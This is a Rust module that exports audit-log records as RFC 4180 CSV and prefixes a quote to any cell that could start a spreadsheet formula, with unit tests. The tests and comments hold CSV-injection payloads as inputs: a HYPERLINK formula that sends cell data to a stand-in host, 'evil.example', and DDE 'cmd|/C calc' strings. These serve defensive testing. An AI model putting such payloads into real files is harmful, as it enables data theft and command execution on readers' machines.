//! `format=csv`: RFC 4180 (CRLF line ends, fields quoted when they need it) with a header
//! row and a fixed column set, so a spreadsheet or script can rely on the columns.
//!
//! # Formula neutralization (CSV injection)
//!
//! An event's text is whatever its sender wrote (the `user` of a failed login is what
//! the attacker typed), and a spreadsheet opening the file evaluates a cell that starts
//! like a formula (`=HYPERLINK(...)`, `+cmd|'/C calc'!A0`, `@SUM(...)`). So every data
//! cell goes through [`neutralize`], which prepends one `'` (the OWASP "CSV Injection"
//! mitigation, also ASVS 5.0 1.2.10) when the cell's text:
//!
//! 1. starts with `=`, `+`, `-`, `@`, tab (0x09), carriage return (0x0D), line feed
//!    (0x0A) or NUL (0x00): OWASP's list, plus LF and NUL, which ASVS and some
//!    spreadsheet imports treat alike; or
//! 2. starts with any number of whitespace, control or invisible characters (Unicode
//!    `White_Space`, `Cc`, `Default_Ignorable_Code_Point`: NBSP, U+3000, zero-width
//!    space, BOM, bidi marks...) followed by one of `=`, `+`, `-`, `@`. Excel keeps
//!    ` =1+1` as text, but LibreOffice's import has a "Trim spaces" option and other
//!    readers strip a BOM or zero-width characters before deciding, so such a cell is
//!    live in some application; or
//! 3. starts (after those invisible characters, if any) with a character whose Unicode
//!    compatibility form (NFKC) is one of `=`, `+`, `-`, `@`: the full-width
//!    `＝ ＋ － ＠` (U+FF1D, U+FF0B, U+FF0D, U+FF20), the small forms (U+FE66, U+FE62,
//!    U+FE63, U+FE6B), the super/subscript `⁺ ⁼ ₊ ₌` and U+FB29; and U+2212 MINUS SIGN.
//!    Spreadsheets in East Asian locales (and IME input paths) normalize full-width
//!    operators, and an audit export must never carry a live formula: when in doubt
//!    the cell is neutralized, since a wrong guess costs one visible `'`; or
//! 4. starts with `'` itself, so that the rule is exactly reversible: **a cell that
//!    starts with `'` had one `'` prepended; dropping it gives the stored text**, byte
//!    for byte (an audit export must not lose or change what was logged).
//!
//! Otherwise the cell is unchanged; the csv crate then quotes it per RFC 4180 when it
//! holds `,`, `"`, CR or LF, as for any other cell. The rule is applied to every data
//! cell alike, not only to the columns clients write: `seq` (a positive integer),
//! `time`/`received_at` (RFC 3339, starting with a digit) and the JSON columns
//! (`details`, `changes`, `redacted`, `tags`, starting with `{` or `[`) never match it,
//! and a negative number (no column holds one) would be written `'-5`.
//!
//! What it cannot cover: the file is comma-separated. A spreadsheet that splits it at
//! another separator (Excel in a locale whose list separator is `;`) sees different
//! cell boundaries, and a `;=...` inside a value would start a cell there; import such
//! files with the comma as separator (or use `jsonl`).

use serde_json::Value;

use super::{Encoder, ExportError};

/// The columns, in order: the stored record's fields. Strings and numbers are written as
/// text; objects and arrays (`details`, `changes`, `redacted`, `tags`) as their JSON;
/// a field the record does not have is empty. Never reordered or removed: new columns
/// may only be appended.
pub const COLUMNS: [&str; 22] = [
    "seq",
    "time",
    "received_at",
    "source",
    "id",
    "action",
    "outcome",
    "severity",
    "user",
    "ip",
    "user_agent",
    "session_id",
    "request_id",
    "resource_type",
    "resource_id",
    "reason",
    "details",
    "changes",
    "redacted",
    "tags",
    "policy_set",
    "prev",
];

/// Writes records as CSV rows; each row goes straight into the output chunk.
#[derive(Default)]
pub struct CsvEncoder {
    row: Vec<String>,
}

/// Writes one CSV record (CRLF, quoted when needed) to the end of `out`.
fn write_row<I, T>(out: &mut Vec<u8>, fields: I) -> Result<(), ExportError>
where
    I: IntoIterator<Item = T>,
    T: AsRef<[u8]>,
{
    let mut writer = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::CRLF)
        .quote_style(::csv::QuoteStyle::Necessary)
        .buffer_capacity(1024)
        .from_writer(out);
    writer.write_record(fields)?;
    writer.flush().map_err(::csv::Error::from)?;
    Ok(())
}

/// One column's cell for `record`: its text, neutralized (see [`neutralize`]).
fn cell(record: &Value, column: &str) -> Result<String, ExportError> {
    let text = match record.get(column) {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) => s.clone(),
        Some(v @ (Value::Number(_) | Value::Bool(_))) => v.to_string(),
        Some(v) => serde_json::to_string(v)?,
    };
    Ok(neutralize(text))
}

/// The prefix that makes a spreadsheet read a cell as text.
const TEXT_PREFIX: char = '\'';

/// `text` as a cell no spreadsheet evaluates: with a `'` in front when
/// [`needs_text_prefix`], unchanged otherwise (rule in the module doc).
pub fn neutralize(text: String) -> String {
    if needs_text_prefix(&text) {
        let mut out = String::with_capacity(text.len() + 1);
        out.push(TEXT_PREFIX);
        out.push_str(&text);
        out
    } else {
        text
    }
}

/// True when `text` must be written with a leading `'`: its first character is a
/// trigger, a control character a spreadsheet may take as one, or `'` itself; or its
/// first visible character (after whitespace, control and invisible characters) is a
/// formula operator, ASCII or a compatibility form of one.
pub fn needs_text_prefix(text: &str) -> bool {
    let Some(first) = text.chars().next() else {
        return false;
    };
    if matches!(first, '\t' | '\r' | '\n' | '\0' | TEXT_PREFIX) {
        return true;
    }
    text.chars().find(|&c| !is_invisible(c)).is_some_and(is_formula_start)
}

/// A character that can start a formula: `=`, `+`, `-`, `@`, and every character whose
/// NFKC form is one of them (full-width, small, superscript, subscript), plus U+2212
/// MINUS SIGN, which some spreadsheets read as `-`.
fn is_formula_start(c: char) -> bool {
    matches!(
        c,
        '=' | '+'
            | '-'
            | '@'
            | '\u{FF1D}' // FULLWIDTH EQUALS SIGN
            | '\u{FF0B}' // FULLWIDTH PLUS SIGN
            | '\u{FF0D}' // FULLWIDTH HYPHEN-MINUS
            | '\u{FF20}' // FULLWIDTH COMMERCIAL AT
            | '\u{FE66}' // SMALL EQUALS SIGN
            | '\u{FE62}' // SMALL PLUS SIGN
            | '\u{FE63}' // SMALL HYPHEN-MINUS
            | '\u{FE6B}' // SMALL COMMERCIAL AT
            | '\u{207A}' // SUPERSCRIPT PLUS SIGN
            | '\u{207C}' // SUPERSCRIPT EQUALS SIGN
            | '\u{208A}' // SUBSCRIPT PLUS SIGN
            | '\u{208C}' // SUBSCRIPT EQUALS SIGN
            | '\u{FB29}' // HEBREW LETTER ALTERNATIVE PLUS SIGN
            | '\u{2212}' // MINUS SIGN
    )
}

/// A character a reader may drop or trim before looking at a cell: Unicode
/// `White_Space`, a control character (`Cc`), or a `Default_Ignorable_Code_Point`
/// (soft hyphen, zero-width characters, bidi controls, BOM, variation selectors, tags).
fn is_invisible(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(
            c,
            '\u{00AD}'
                | '\u{034F}'
                | '\u{061C}'
                | '\u{115F}'..='\u{1160}'
                | '\u{17B4}'..='\u{17B5}'
                | '\u{180B}'..='\u{180F}'
                | '\u{200B}'..='\u{200F}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2060}'..='\u{206F}'
                | '\u{3164}'
                | '\u{FE00}'..='\u{FE0F}'
                | '\u{FEFF}'
                | '\u{FFA0}'
                | '\u{FFF0}'..='\u{FFF8}'
                | '\u{1BCA0}'..='\u{1BCA3}'
                | '\u{1D173}'..='\u{1D17A}'
                | '\u{E0000}'..='\u{E0FFF}'
        )
}

impl Encoder for CsvEncoder {
    fn begin(&mut self, out: &mut Vec<u8>) -> Result<(), ExportError> {
        write_row(out, COLUMNS)
    }

    fn event(&mut self, record: &Value, out: &mut Vec<u8>) -> Result<(), ExportError> {
        self.row.clear();
        for column in COLUMNS {
            self.row.push(cell(record, column)?);
        }
        write_row(out, &self.row)
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn rows_quote_what_needs_it_and_nest_json() {
        let mut enc = CsvEncoder::default();
        let mut out = Vec::new();
        enc.begin(&mut out).unwrap();
        let record = json!({
            "seq": 7, "action": "user.login", "reason": "a, \"quoted\"\nline",
            "details": {"k": [1, 2]}, "tags": ["x"],
        });
        enc.event(&record, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let (header, row) = text.split_once("\r\n").unwrap();
        assert_eq!(header, COLUMNS.join(","));
        assert!(row.starts_with("7,,,,,user.login,"), "{row}");
        assert!(row.contains("\"a, \"\"quoted\"\"\nline\""), "{row}");
        assert!(row.contains("\"{\"\"k\"\":[1,2]}\""), "{row}");
        assert!(row.ends_with("\r\n"), "{row:?}");
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 1);
        assert_eq!(&rows[0][15], "a, \"quoted\"\nline");
        assert_eq!(&rows[0][16], r#"{"k":[1,2]}"#);
    }

    /// The stored text back from a cell: the documented reverse of [`neutralize`].
    fn restore(cell: &str) -> &str {
        cell.strip_prefix('\'').unwrap_or(cell)
    }

    #[test]
    fn each_trigger_character_gets_a_quote_prefix() {
        for text in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+cmd|'/C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\tplain after a tab",
            "\r=1+1",
            "\rplain after a CR",
            "\nplain after a LF",
            "\0plain after a NUL",
            "=",
            "-",
        ] {
            assert_eq!(neutralize(text.to_string()), format!("'{text}"), "{text:?}");
        }
    }

    #[test]
    fn full_width_and_other_compatibility_forms_are_triggers() {
        for c in [
            '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}', '\u{FE66}', '\u{FE62}', '\u{FE63}', '\u{FE6B}',
            '\u{207A}', '\u{207C}', '\u{208A}', '\u{208C}', '\u{FB29}', '\u{2212}',
        ] {
            let text = format!("{c}HYPERLINK(\"http://evil.example\")");
            assert_eq!(neutralize(text.clone()), format!("'{text}"), "U+{:04X}", c as u32);
        }
    }

    #[test]
    fn invisible_characters_before_a_trigger_do_not_hide_it() {
        for text in [
            " =1+1",
            "   +1",
            "\u{00A0}=1+1",        // NO-BREAK SPACE
            "\u{3000}@SUM(A1)",    // IDEOGRAPHIC SPACE
            "\u{200B}=1+1",        // ZERO WIDTH SPACE
            "\u{FEFF}=1+1",        // BYTE ORDER MARK
            "\u{202E}-1+1",        // RIGHT-TO-LEFT OVERRIDE
            "\u{2060}\u{00AD}=1",  // WORD JOINER, SOFT HYPHEN
            "\u{000B}\u{000C}=1",  // VT, FF
            " \u{FF1D}1+1",        // a space, then FULLWIDTH EQUALS SIGN
            "\u{E0041}\u{FE0F}+1", // a tag character, a variation selector
        ] {
            assert_eq!(neutralize(text.to_string()), format!("'{text}"), "{text:?}");
        }
    }

    #[test]
    fn a_leading_quote_is_doubled_so_the_rule_reverses() {
        for text in ["'", "'=1+1", "'plain", "''"] {
            let cell = neutralize(text.to_string());
            assert_eq!(cell, format!("'{text}"));
            assert_eq!(restore(&cell), text);
        }
    }

    #[test]
    fn other_cells_are_unchanged() {
        for text in [
            "",
            "alice",
            "mallory",
            "7",
            "2026-11-23T08:00:00.000000Z",
            "203.0.113.7",
            "2001:db8::17",
            "user.login",
            r#"{"k":[1,2],"f":"=1+1"}"#,
            r#"["=x","+y"]"#,
            "a=b",
            "x+1",
            "alice@example.com",
            "a-b-c",
            "wrong_password",
            " leading space",
            "\u{00A0}\u{200B}hidden but harmless",
            "a\u{FF1D}b",
            "hmac-sha256:ab12",
            "\u{2800}=braille blank is visible to every reader",
            "ü, \"quoted\"",
        ] {
            assert_eq!(neutralize(text.to_string()), text, "{text:?}");
        }
    }

    #[test]
    fn every_cell_reverses_to_its_text() {
        let all = ["=1", "'=1", "''", "'", "plain", "", " =1", "\t", "\u{FF20}x", "-", "a'"];
        for text in all {
            assert_eq!(restore(&neutralize(text.to_string())), text, "{text:?}");
        }
    }

    #[test]
    fn rows_neutralize_every_column_and_quote_per_rfc_4180() {
        let mut enc = CsvEncoder::default();
        let mut out = Vec::new();
        enc.begin(&mut out).unwrap();
        let user = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
        let reason = "+cmd|'/C calc'!A0";
        let record = json!({
            "seq": 8, "time": "2026-11-23T08:00:00.000000Z", "action": "user.login",
            "outcome": "failure", "user": user, "reason": reason, "id": "-1",
            "resource_id": "\u{FF1D}1+1", "details": {"note": "=1+1"}, "tags": ["@x"],
            "request_id": -5,
        });
        enc.event(&record, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        // Quoted (it holds `"` and `,`) with the prefix inside the quotes.
        assert!(text.contains(r#","'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","#), "{text}");
        // Nothing to quote: written as is, after the prefix.
        assert!(text.contains(",'+cmd|'/C calc'!A0,"), "{text}");
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let row = reader.records().next().unwrap().unwrap();
        let col = |name: &str| &row[COLUMNS.iter().position(|c| *c == name).unwrap()];
        assert_eq!(col("seq"), "8");
        assert_eq!(col("time"), "2026-11-23T08:00:00.000000Z");
        assert_eq!(col("action"), "user.login");
        assert_eq!(col("user"), format!("'{user}"));
        assert_eq!(col("reason"), format!("'{reason}"));
        assert_eq!(col("id"), "'-1");
        assert_eq!(col("resource_id"), "'\u{FF1D}1+1");
        assert_eq!(col("details"), r#"{"note":"=1+1"}"#);
        assert_eq!(col("tags"), r#"["@x"]"#);
        assert_eq!(col("request_id"), "'-5", "numbers follow the same rule");
        for cell in row.iter() {
            assert!(!needs_text_prefix(cell) || cell.starts_with('\''), "{cell:?}");
        }
    }
}
